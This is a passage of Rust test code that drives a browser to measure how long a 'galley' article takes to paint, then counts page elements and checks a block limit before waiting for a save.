                && performance.getEntriesByName('galley:article-painted', 'mark').at(-1)?.startTime > broughtAt";
            browser.wait_until(name, script, vec![]).await?;
            let took: f64 = browser
                .ask("return performance.getEntriesByName('galley:article-painted', 'mark').at(-1).startTime - broughtAt", vec![])
                .await?;
            println!("{name}, {} bytes: painted after {took:.0} ms, {} elements", bytes.len(), browser.count("*").await?);
            ensure!(browser.count("[data-block]").await? <= MOST_BLOCKS);
            browser.wait_saved().await?;
        }
        check_quiet(site, browser).await
    })
    .await
}
